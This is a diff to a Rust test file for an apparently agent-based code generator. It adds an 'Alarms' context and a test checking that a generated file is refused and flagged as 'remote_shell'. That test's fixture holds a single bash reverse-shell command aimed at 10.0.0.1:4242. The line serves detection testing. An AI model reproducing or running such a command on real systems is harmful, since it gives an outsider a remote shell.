@@ -1,4 +1,4 @@
-use crate::{AgentError, AnswerLimits, Ctx, code_monkey, tech_lead, technical_writer};
+use crate::{AgentError, Alarms, AnswerLimits, Ctx, code_monkey, tech_lead, technical_writer};
 use domain::agent_io::{AgentInput, Architecture, CodeInput, DocsInput, FileView, PlanInput};
 use domain::app_model::{AppModel, Dashboard, SignIn};
 use domain::edit::{EditLimits, FileChange};
@@ -65,7 +65,7 @@ async fn code(
     limits: AnswerLimits,
 ) -> (Result<Vec<FileChange>, AgentError>, usize) {
     let model = Scripted::new(answers);
-    let ctx = Ctx { provider: &model, limits, party: 1 };
+    let ctx = Ctx { provider: &model, limits, alarms: &Alarms::default(), party: 1 };
     let result = code_monkey::write_code(&ctx, code_input(), &BTreeMap::new()).await.map(|(_, changes)| changes);
     (result, model.left())
 }
@@ -105,7 +105,7 @@ async fn code_with(
     limits: AnswerLimits,
     files: &crate::Files,
 ) -> (Result<Vec<FileChange>, AgentError>, Vec<llm::Prompt>) {
-    let ctx = Ctx { provider: &model, limits, party: 1 };
+    let ctx = Ctx { provider: &model, limits, alarms: &Alarms::default(), party: 1 };
     let mut input = code_input();
     input.files = files
         .iter()
@@ -182,6 +182,19 @@ async fn calls_for_one_answer_have_one_end_whatever_they_are_for() {
 }
 
 #[tokio::test]
+async fn a_file_that_an_app_must_not_hold_is_refused_and_noted() {
+    let bad = r#"{"summary": "s", "edits": [{"edit": "write", "path": "web/a.sh", "content": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n"}]}"#;
+    let (model, alarms) = (Scripted::new([Ok(bad.into()), writes("web/b.ts")]), Alarms::default());
+    let ctx = Ctx { provider: &model, limits: tries(2), alarms: &alarms, party: 1 };
+    let (_, changes) = code_monkey::write_code(&ctx, code_input(), &BTreeMap::new()).await.unwrap();
+    assert_eq!(changes[0].path.as_str(), "web/b.ts");
+    assert!(model.asked()[1].turns[0].then.contains("must not hold"));
+    let noted = alarms.take();
+    assert_eq!(noted.iter().map(|danger| danger.kind.as_str()).collect::<Vec<_>>(), ["remote_shell"]);
+    assert_eq!(alarms.take(), []);
+}
+
+#[tokio::test]
 async fn only_the_last_bad_answer_is_shown_back() {
     let model = Scripted::new([Ok("first bad".into()), Ok("second bad".into()), writes("web/b.ts")]);
     let (_, asked) = code_with(model, tries(3), &crate::Files::new()).await;
@@ -198,7 +211,7 @@ async fn a_plan_with_shared_paths_is_refused() {
     };
     let plan = format!(r#"{{"epics":[{{"title":"e","tasks":[{},{}]}}]}}"#, task(1), task(2));
     let model = Scripted::new([Ok(plan)]);
-    let ctx = Ctx { provider: &model, limits: tries(1), party: 1 };
+    let ctx = Ctx { provider: &model, limits: tries(1), alarms: &Alarms::default(), party: 1 };
     let input = PlanInput { spec: spec(), architecture: architecture(), existing_paths: vec![] };
     assert!(matches!(tech_lead::plan(&ctx, input).await, Err(AgentError::NoUsableAnswer { .. })));
 }
@@ -206,7 +219,7 @@ async fn a_plan_with_shared_paths_is_refused() {
 #[tokio::test]
 async fn the_technical_writer_writes_the_readme_only() {
     let model = Scripted::new([writes("server/app.ts"), writes("README.md")]);
-    let ctx = Ctx { provider: &model, limits: tries(2), party: 1 };
+    let ctx = Ctx { provider: &model, limits: tries(2), alarms: &Alarms::default(), party: 1 };
     let input = DocsInput { spec: spec(), architecture: architecture(), verdicts: vec![], readme: None };
     let (_, changes) = technical_writer::write_docs(&ctx, input, &BTreeMap::new()).await.unwrap();
     assert_eq!(changes[0].path.as_str(), "README.md");
